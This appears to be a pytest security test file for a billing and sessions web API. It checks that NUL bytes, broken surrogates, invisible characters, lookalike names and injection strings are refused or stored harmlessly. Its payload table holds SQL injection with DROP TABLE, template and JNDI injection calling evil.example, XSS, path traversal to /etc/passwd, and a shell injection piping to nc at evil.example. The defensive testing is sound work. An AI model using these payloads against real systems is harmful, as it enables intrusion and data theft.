"""Hostile texts in every field, parameter and path: NUL, halves of characters, turned and invisible writing, templates
and queries of other languages."""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest

from billing.models import ApiKey, Consumer
from sessions_app.models import Session
from tests.attacks.conftest import World
from tests.attacks.surface import ALL, WITH_BODY, WITH_QUERY, Operation, assert_refused, books

TEXTS = {
    "sql": "x'; DROP TABLE sessions_app_session; --", "sql or": "' OR 1=1 --", "like": "%_%",
    "format": "%s%n%x {0} {x.y}",
    "python": "{0.__class__.__mro__}", "template": "{{7*7}}{% debug %}${7*7}#{7*7}<%= 7*7 %>",
    "jndi": "${jndi:ldap://evil.example/a}", "html": "<script>alert(1)</script>", "csv": "=cmd|' /C calc'!A0",
    "path": "../../../../etc/passwd", "shell": "$(touch /tmp/owned); `id` | nc evil.example 1",
    "xml": "<!ENTITY x SYSTEM 'f'>",
    "four bytes": "😀🀄", "combining": "e\u0301" + "\u0301" * 50, "homoglyph": "аdmin", "fullwidth": "ＡＤＭＩＮ",
    "sharp s": "ß",
    "dotted i": "İı", "noncharacter": "\ufffe\uffff", "private": "\ue000", "header": "x: y",
    "json": '","status":"running',
}  # fmt: skip
#: What nobody sees, or sees at another place than where it stands.
HIDDEN = {
    "escape": "\x1b[31mred\x1b[0m", "line": "a\nb", "return": "a\rb", "bell": "a\x07", "delete": "a\x7f",
    "c1": "a\x9b31m",
    "turned": "\u202egnp.exe", "isolate": "a\u2066b", "zero width": "a\u200bb", "joiner": "a\u200db", "bom": "a\ufeffb",
    "separator": "a\u2028b", "soft hyphen": "a\u00adb", "tag": "a\U000e0041",
}  # fmt: skip


def is_text(shape: dict[str, Any]) -> bool:
    return bool(shape.get("type") == "string")


def texts_of(operation: Operation) -> list[str]:
    return [name for name, shape in operation.fields.items() if is_text(shape)]


@pytest.mark.parametrize("operation", WITH_BODY, ids=lambda each: each.name)
def test_nul_in_every_text_field(world: World, operation: Operation) -> None:
    before = books()
    for name in texts_of(operation):
        answer = world.staff(operation.method, operation.at(**world.ids), operation.body(**{name: "a\x00b"}))
        assert_refused(answer, 400, field=name)
    assert books() == before


@pytest.mark.parametrize("operation", WITH_BODY, ids=lambda each: each.name)
def test_half_a_character_in_every_text_field(world: World, operation: Operation) -> None:
    before = books()
    for name in texts_of(operation):
        for half in ("\\ud800", "\\udfff", "\\udc00\\ud800", "\\uD83Dx"):
            body = json.dumps(operation.body(**{name: "HALF"})).replace("HALF", half)
            answer = world.staff(operation.method, operation.at(**world.ids), body)
            assert_refused(answer, 400, error="malformed JSON: a string holds half of a surrogate pair")
    assert books() == before


@pytest.mark.parametrize("operation", WITH_QUERY, ids=lambda each: each.name)
def test_nul_in_every_parameter(world: World, operation: Operation) -> None:
    before = books()
    for name in operation.query:
        answer = world.staff(operation.method, f"{operation.at(**world.ids)}?{name}=1%00")
        assert_refused(answer, 400, field=name, error=f"{name}: must not contain NUL characters")
    assert books() == before


@pytest.mark.parametrize("operation", [each for each in ALL if "{" in each.path], ids=lambda each: each.name)
def test_nul_in_every_path(world: World, operation: Operation) -> None:
    before = books()
    path = operation.at(**dict.fromkeys(world.ids, "a%00b"))
    assert_refused(world.staff(operation.method, path, operation.body()), 404, error="there is no such path")
    assert books() == before


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_text_is_stored_and_shown_as_it_is(world: World, text: str) -> None:
    """Whatever it means elsewhere."""
    order = {"consumer_id": text, "offer_id": "vastai-3", "workload_type": "llm", "reservation_hours": 1}
    free = {"on_start_cmd": text, "docker_image": f"x/{text}:1", "quantization": text}
    status, answer = world.staff.json("POST", "/api/v1/sessions", {**order, **free, "ssh_key_type": "ed25519"})
    assert status == 201, answer
    shown = answer["session"]
    assert (shown["consumer_id"], shown["docker_image"]) == (text, f"x/{text}:1")
    session = Session.objects.select_related("consumer").get(id=shown["id"])
    assert (session.consumer.name, session.launch_options["on_start_cmd"]) == (text, text)
    for path in ("/sessions", "/costs", "/costs/summary", "/keys"):
        assert world.staff("GET", f"/api/v1{path}?consumer_id={quote(text)}").status_code == 200
    listed = world.staff.json("GET", f"/api/v1/sessions?consumer_id={quote(text)}")[1]
    assert [each["id"] for each in listed["sessions"]] == [shown["id"]]
    assert Session.objects.count() == 3


@pytest.mark.parametrize("text", [*TEXTS.values(), *HIDDEN.values()], ids=[*TEXTS, *HIDDEN])
def test_a_text_that_names_nothing_finds_nothing(world: World, text: str) -> None:
    """In every parameter and path that takes any text, told back as it came."""
    before, told = books(), quote(text, safe="")
    for name, path in (("gpu_type", "/inventory"), ("location", "/inventory"), ("consumer_id", "/sessions")):
        status, answer = world.staff.json("GET", f"/api/v1{path}?{name}={told}")
        assert (status, answer["total"], answer["count"]) == (200, 0, 0)
    assert world.staff.json("GET", f"/api/v1/templates?name={told}") == (200, {"templates": [], "count": 0})
    for path, sentence in (
        (f"/costs?session_id={told}", f"session {text} not found"),
        (f"/inventory?template_hash_id={told}", f"template {text} not found"),
    ):
        assert_refused(world.staff("GET", f"/api/v1{path}"), 404, error=sentence)
    inner = text.replace("/", "_")
    for kind, path in (("session", "sessions"), ("offer", "inventory"), ("template", "templates")):
        answer = world.staff("GET", f"/api/v1/{path}/{quote(inner, safe='')}")
        assert_refused(answer, 404, error=f"{kind} {inner} not found")
    assert_refused(world.staff("DELETE", f"/api/v1/keys/{quote(inner, safe='')}"), 404, error=f"key {inner} not found")
    assert books() == before


@pytest.mark.parametrize("text", HIDDEN.values(), ids=HIDDEN)
def test_a_name_that_cannot_be_seen_is_none(world: World, text: str) -> None:
    """It would stand in staff's terminals, logs and lists, there to be taken for another."""
    before = books()
    order = {"offer_id": "vastai-3", "workload_type": "llm", "reservation_hours": 1}
    sentence = "consumer_id: must not contain control or invisible characters"
    for path in ("/sessions", "/sessions/estimate", "/consumers", "/keys"):
        answer = world.staff("POST", f"/api/v1{path}", {**order, "consumer_id": text})
        assert_refused(answer, 400, error=sentence, field="consumer_id")
    answer = world.staff("POST", "/api/v1/keys", {"consumer_id": "new", "name": text})
    assert_refused(answer, 400, field="name")
    assert books() == before


def test_names_that_look_alike_are_not_the_same(world: World) -> None:
    """Composed and decomposed, of another alphabet, in another case, wide: each sees its own and only that."""
    for name in ("caf\u00e9", "cafe\u0301", "ME", "mе", "ｍｅ"):
        status, made = world.staff.json("POST", "/api/v1/keys", {"consumer_id": name})
        assert status == 201
        attacker = type(world.me)(made["api_key"])
        assert attacker.json("GET", "/api/v1/sessions")[1]["total"] == 0
        assert attacker("GET", f"/api/v1/sessions/{world.mine}").status_code == 404
    assert Consumer.objects.filter(name__in=["caf\u00e9", "cafe\u0301", "ME", "mе", "ｍｅ"]).count() == 5


def test_spaces_around_a_name_are_not_another_name(world: World) -> None:
    status, answer = world.staff.json("POST", "/api/v1/keys", {"consumer_id": "  me\t "})
    assert (status, answer["key"]["consumer_id"]) == (201, "me")
    assert ApiKey.objects.filter(consumer__name="me").count() == 2
    assert_refused(world.staff("POST", "/api/v1/consumers", {"consumer_id": " me "}), 409)
